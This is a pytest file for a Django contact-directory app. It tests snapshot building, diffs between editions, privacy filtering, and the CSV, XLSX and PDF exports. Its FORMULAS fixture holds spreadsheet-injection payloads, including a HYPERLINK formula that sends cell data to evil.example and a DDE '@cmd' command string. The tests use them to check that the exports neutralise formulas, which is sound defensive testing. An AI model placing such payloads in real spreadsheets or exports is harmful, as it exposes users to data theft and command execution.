"""Editions: what is frozen, how two editions compare, and the files built from them."""

import csv
import io
import json
import re
import zlib

import pytest
from openpyxl import load_workbook

from communiques import editions
from contacts.models import FocalPoint
from tests.factories import FocalPointFactory, OrganizationFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click for details")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd|' /C calc'!A0",
]


def focal_points_of(snapshot):
    return {fp["email"]: fp for org in snapshot["organizations"] for fp in org["focal_points"]}


def test_snapshot_holds_active_entries_only_and_no_notes():
    active = OrganizationFactory(acronym="ASEAN")
    closed = OrganizationFactory(acronym="OLD", is_active=False)
    FocalPointFactory(organization=active, email="current@example.org", notes="Secretariat only: prefers phone")
    FocalPointFactory(organization=active, email="former@example.org", is_active=False)
    FocalPointFactory(organization=closed, email="closed-org@example.org")

    snapshot = editions.snapshot_build()

    assert [org["acronym"] for org in snapshot["organizations"]] == ["ASEAN"]
    entries = focal_points_of(snapshot)
    assert list(entries) == ["current@example.org"]
    assert "notes" not in entries["current@example.org"]
    assert "prefers phone" not in json.dumps(snapshot)
    # Nor does the internal note reach the files.
    assert b"prefers phone" not in editions.render_csv(snapshot)


def test_snapshot_is_plain_json():
    FocalPointFactory(organization=OrganizationFactory(), phone="+12025550123", country="FR", languages=["fr"])
    snapshot = editions.snapshot_build()
    assert json.loads(json.dumps(snapshot)) == snapshot
    (fp,) = focal_points_of(snapshot).values()
    assert (fp["phone"], fp["country"], fp["languages"]) == ("+1 202-555-0123", "FR", ["fr"])


def test_diff_added_changed_removed():
    organization = OrganizationFactory(acronym="OSCE")
    stays = FocalPointFactory(organization=organization, full_name="Anna Stays", email="anna@example.org")
    moves = FocalPointFactory(organization=organization, full_name="Ben Changes", email="ben@example.org",
                              title="Adviser")
    leaves = FocalPointFactory(organization=organization, full_name="Cleo Leaves", email="cleo@example.org")
    before = editions.snapshot_build()

    moves.title = "Head of unit"
    moves.email = "ben.new@example.org"
    moves.save()
    leaves.is_active = False
    leaves.save()
    FocalPointFactory(organization=organization, full_name="Dan Arrives", email="dan@example.org")
    after = editions.snapshot_build()

    diff = editions.snapshot_diff(before, after)
    assert diff["is_first"] is False
    assert [fp["full_name"] for fp in diff["added"]] == ["Dan Arrives"]
    assert [fp["full_name"] for fp in diff["removed"]] == ["Cleo Leaves"]
    (changed,) = diff["changed"]
    assert changed["full_name"] == "Ben Changes"
    assert {f["field"]: (f["old"], f["new"]) for f in changed["fields"]} == {
        "title": ("Adviser", "Head of unit"),
        "email": ("ben@example.org", "ben.new@example.org"),
    }
    assert stays.full_name not in json.dumps(diff)


def test_diff_of_the_first_edition_and_of_no_change():
    FocalPointFactory()
    snapshot = editions.snapshot_build()
    first = editions.snapshot_diff(None, snapshot)
    assert first["is_first"] is True and len(first["added"]) == 1
    same = editions.snapshot_diff(snapshot, editions.snapshot_build())
    assert (same["added"], same["changed"], same["removed"]) == ([], [], [])


def test_diff_sees_a_deactivated_organization_as_removed_focal_points():
    organization = OrganizationFactory(acronym="GONE")
    FocalPointFactory(organization=organization, full_name="Eve")
    before = editions.snapshot_build()
    organization.is_active = False
    organization.save()
    diff = editions.snapshot_diff(before, editions.snapshot_build())
    assert [(fp["organization"], fp["full_name"]) for fp in diff["removed"]] == [("GONE", "Eve")]


@pytest.fixture
def hostile_snapshot():
    organization = OrganizationFactory(acronym="EVIL", name="=1+1 Organization")
    FocalPointFactory(organization=organization, full_name=FORMULAS[0], title=FORMULAS[1], city=FORMULAS[2],
                      email="victim@example.org")
    FocalPointFactory(organization=organization, full_name=FORMULAS[3], email="other@example.org",
                      role=FocalPoint.Role.PRIMARY)
    return editions.snapshot_build()


def test_csv_neutralises_spreadsheet_formulas(hostile_snapshot):
    content = editions.render_csv(hostile_snapshot).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(content)))
    names = {row["Email"]: row for row in rows}
    victim = names["victim@example.org"]
    assert victim["Name"] == "'" + FORMULAS[0]
    assert victim["Title"] == "'" + FORMULAS[1]
    assert victim["City"] == "'" + FORMULAS[2]
    assert names["other@example.org"]["Name"] == "'" + FORMULAS[3]
    assert victim["Organization"] == "'=1+1 Organization"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), value


def test_xlsx_neutralises_spreadsheet_formulas(hostile_snapshot):
    workbook = load_workbook(io.BytesIO(editions.render_xlsx(hostile_snapshot)))
    sheet = workbook["Focal points"]
    header = [cell.value for cell in sheet[1]]
    cells = [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]
    victim = next(row for row in cells if row["Email"].value == "victim@example.org")
    assert victim["Name"].value == "'" + FORMULAS[0]
    assert victim["Name"].data_type == "s"  # text, not a formula
    for row in cells:
        for cell in row.values():
            assert cell.data_type != "f"


def _pdf_fonts_and_characters(pdf: bytes) -> tuple[set[str], set[str]]:
    """Return the fonts a PDF embeds and the characters its ToUnicode maps can show."""
    fonts, characters = set(), set()
    for raw in re.findall(rb"stream\r?\n(.*?)\r?\nendstream", pdf, re.S):
        try:
            data = zlib.decompress(raw).decode("latin-1")
        except zlib.error:
            continue
        fonts.update(name.split("+", 1)[-1] for name in re.findall(r"/BaseFont\s*/([\w+\-]+)", data))
        if "begincmap" in data:
            for _glyph, codes in re.findall(r"<([0-9a-fA-F]{4})>\s*<([0-9a-fA-F]+)>", data):
                characters.update(chr(int(codes[i:i + 4], 16)) for i in range(0, len(codes), 4))
    return fonts, characters


def test_pdf_renders_non_latin_names_in_dejavu():
    organization = OrganizationFactory(acronym="LAS", name="جامعة الدول العربية")
    FocalPointFactory(organization=organization, full_name="نور الهدى", role=FocalPoint.Role.PRIMARY)
    FocalPointFactory(organization=organization, full_name="Алексей Смирнов")
    FocalPointFactory(organization=organization, full_name="Ελένη Παπαδοπούλου")
    snapshot = editions.snapshot_build()

    pdf = editions.render_pdf(number=7, snapshot=snapshot, changes=editions.snapshot_diff(None, snapshot))

    assert pdf.startswith(b"%PDF")
    fonts, characters = _pdf_fonts_and_characters(pdf)
    assert "DejaVu-Sans" in fonts
    assert all(font.startswith("DejaVu") for font in fonts), fonts
    for name in ("نور الهدى", "Алексей Смирнов", "Ελένη Παπαδοπούλου"):
        missing = set(name.replace(" ", "")) - characters
        assert not missing, f"{name}: no glyph for {missing}"


def test_edition_create_numbers_and_files(media_root):
    FocalPointFactory(email="first@example.org")
    first = editions.edition_create()
    FocalPointFactory(email="second@example.org")
    second = editions.edition_create()
    assert (first.number, second.number) == (1, 2)
    assert [fp["email"] for fp in second.changes["added"]] == ["second@example.org"]
    with second.csv.open("rb") as handle:
        content = handle.read().decode("utf-8-sig")
    assert "first@example.org" in content and "second@example.org" in content
    with second.pdf.open("rb") as handle:
        assert handle.read(4) == b"%PDF"


@pytest.mark.django_db
def test_phones_marked_secretariat_only_are_not_circulated():
    hidden = FocalPointFactory(full_name="Private Phones", phone="+12025550111", phones_secretariat_only=True)
    shown = FocalPointFactory(full_name="Public Phones", phone="+12025550112")
    people = {fp["full_name"]: fp for org in editions.snapshot_build()["organizations"] for fp in org["focal_points"]}
    assert people[hidden.full_name]["phone"] == "" and people[hidden.full_name]["mobile"] == ""
    assert people[shown.full_name]["phone"] == "+1 202-555-0112"
    assert "555-0111" not in editions.render_csv(editions.snapshot_build()).decode()


@pytest.mark.django_db
def test_edition_pdf_is_tagged_for_screen_readers():
    FocalPointFactory(full_name="Tagged Person")
    pdf = editions.render_pdf(number=1, snapshot=editions.snapshot_build(), changes={"is_first": True})
    objects = pdf
    for raw in re.findall(rb"stream\r?\n(.*?)\r?\nendstream", pdf, re.S):
        try:
            objects += zlib.decompress(raw)
        except zlib.error:
            continue
    assert b"/StructTreeRoot" in objects and b"/MarkInfo" in objects
    assert b"/Lang" in objects  # the document language, from <html lang>
